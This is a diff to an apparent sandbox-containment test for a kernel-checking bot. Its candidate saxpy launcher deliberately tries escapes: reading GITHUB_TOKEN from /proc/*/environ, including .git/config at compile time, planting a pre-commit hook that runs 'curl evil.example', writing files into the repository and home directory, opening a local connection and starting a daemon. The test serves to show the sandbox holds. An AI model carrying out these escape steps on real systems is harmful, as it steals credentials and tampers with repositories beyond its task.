@@ -1,6 +1,7 @@
 // Accepted, because the sandbox holds: a fast, correct saxpy whose launcher first tries every
-// escape of issue #11 and poisons its output when any of them works, so "accepted" means each
-// failed. The test also checks the host for what each escape would leave behind.
+// escape of issue #11 and poisons its output when one it can see from inside works (a secret
+// read, a connection, .git at compile time). The test checks the host for what the others (files
+// written, a daemon) would leave behind.
 //   - at compile time: #include the repository's .git/config (through the -I directories)
 //   - the parent's (or any process's) environment: GITHUB_TOKEN from /proc/*/environ
 //   - the repository: a .git/hooks/pre-commit, the original's source, a file in .kernelbot/
@@ -82,13 +83,18 @@ bool escaped() {
     std::string job = getcwd(cwd, sizeof cwd) ? cwd : "";
     // The job directory is <repo>/.kernelbot/work/jobs/<job>: the repository is above it.
     std::string repo = job.substr(0, job.find("/.kernelbot/"));
+    // What the candidate can tell from inside: a secret read, a connection made, the repository's
+    // .git seen at compile time. Its writes always "succeed" somewhere (the sandbox's own private
+    // root and /tmp are writable and vanish with it), so the test checks those on the host.
     bool any = KB_SAW_GIT != 0;
-    any |= found_token();
-    any |= write_file(repo + "/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example\n");
-    any |= write_file(repo + "/src/saxpy.cu", "\n// planted\n");
-    any |= write_file(repo + "/.kernelbot/planted.json", "{}");
-    any |= write_file("/work/kb-escape-planted", "x") || write_file(std::string(getenv("HOME") ? getenv("HOME") : "/root") + "/kb-escape-planted", "x");
-    any |= connected();
+    if (KB_SAW_GIT) std::fprintf(stderr, "escape: saw .git at compile time\n");
+    if (found_token()) any = true, std::fprintf(stderr, "escape: read GITHUB_TOKEN\n");
+    if (connected()) any = true, std::fprintf(stderr, "escape: connected to 127.0.0.1:47613\n");
+    write_file(repo + "/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example\n");
+    write_file(repo + "/src/saxpy.cu", "\n// planted\n");
+    write_file(repo + "/.kernelbot/planted.json", "{}");
+    write_file("/work/kb-escape-planted", "x");
+    write_file(std::string(getenv("HOME") ? getenv("HOME") : "/root") + "/kb-escape-planted", "x");
     write_file("/tmp/kb-escape-tmp", "private /tmp: harmless");
     start_daemon();
     return any;
